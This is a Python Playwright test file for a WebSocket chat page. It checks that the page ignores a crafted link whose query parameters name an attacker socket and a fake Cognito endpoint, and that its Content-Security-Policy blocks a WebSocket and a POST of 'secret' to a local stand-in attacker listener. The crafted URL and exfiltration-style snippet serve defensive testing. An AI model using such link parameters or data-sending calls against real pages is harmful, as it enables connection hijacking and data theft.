"""The page sends nothing where a link says (issue 23, item 1): the genuine page, opened from a crafted link that
names an attacker's socket and "Cognito", still talks only to the API its config.json names, and its policy lets
it reach nothing else. A local listener stands in for the attacker: it must receive nothing at all."""

import json
import socket
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import Site

pytestmark = pytest.mark.browser

CONVERSATION_ID = "Qm9va3MtYXJlLWEtdW5pcXVlbHktcG9y"


class Listener:
    """A TCP port that records every connection made to it (a WebSocket handshake or a POST would be one)."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.thread = threading.Thread(target=self._accept, daemon=True)
        self.thread.start()

    def _accept(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:  # closed
                return
            with connection:
                connection.settimeout(1)
                try:
                    self.received.append(connection.recv(65536))
                except OSError:
                    self.received.append(b"")

    def close(self) -> None:
        self.server.close()
        self.thread.join(timeout=5)


@pytest.fixture
def attacker() -> Iterator[Listener]:
    listener = Listener()
    yield listener
    listener.close()


def test_a_crafted_link_sends_nothing_to_the_address_it_names(context, site: Site, attacker: Listener):
    evil = f"127.0.0.1:{attacker.port}"
    page = context.new_page()
    # A conversation this browser already has with the genuine API: on load the page asks for its history.
    page.add_init_script(f"localStorage.setItem('bedrock-ws-chat.conversationId@{site.socket}', '{CONVERSATION_ID}')")
    sent: list[str] = []
    sockets: list[str] = []

    def through(ws) -> None:
        sockets.append(ws.url)
        server = ws.connect_to_server()
        ws.on_message(lambda message: (sent.append(message), server.send(message)))

    page.route_web_socket("**", through)
    page.goto(
        f"{site.page}?url=ws://{evil}/&auth=cognito&clientId=x&cognitoEndpoint=http://{evil}/&region=evil#url=ws://{evil}/"
    )

    expect(page.get_by_role("status")).to_have_text("Connected")
    expect(page.locator("#signin")).to_be_hidden()  # no password form posting to the link's "Cognito"
    expect(page.locator(".message.assistant").or_(page.get_by_role("alert"))).not_to_have_count(0)
    assert sockets == [site.socket]
    assert json.loads(sent[0]) == {"action": "history", "conversationId": CONVERSATION_ID}
    assert attacker.received == []


def test_the_policy_lets_the_page_reach_only_what_its_config_names(page: Page, site: Site, attacker: Listener):
    policy = page.evaluate("document.querySelector('meta[http-equiv=Content-Security-Policy]').content")
    connect = next(d for d in policy.split(";") if d.strip().startswith("connect-src")).split()[1:]
    assert connect == ["'self'", site.socket]  # Auth=none: no sign-in endpoint either
    blocked = page.evaluate(
        """async (target) => {
            const seen = [];
            document.addEventListener("securitypolicyviolation", (e) => seen.push(e.blockedURI));
            try { new WebSocket(`ws://${target}/`); } catch {}
            try { await fetch(`http://${target}/`, { method: "POST", body: "secret" }); } catch {}
            while (new Set(seen).size < 2) await new Promise((resolve) => setTimeout(resolve, 10));
            return seen;
        }""",
        f"127.0.0.1:{attacker.port}",
    )
    # Each is reported by both the header and the meta policy: the page's two walls.
    assert set(blocked) == {f"ws://127.0.0.1:{attacker.port}/", f"http://127.0.0.1:{attacker.port}/"}
    assert attacker.received == []
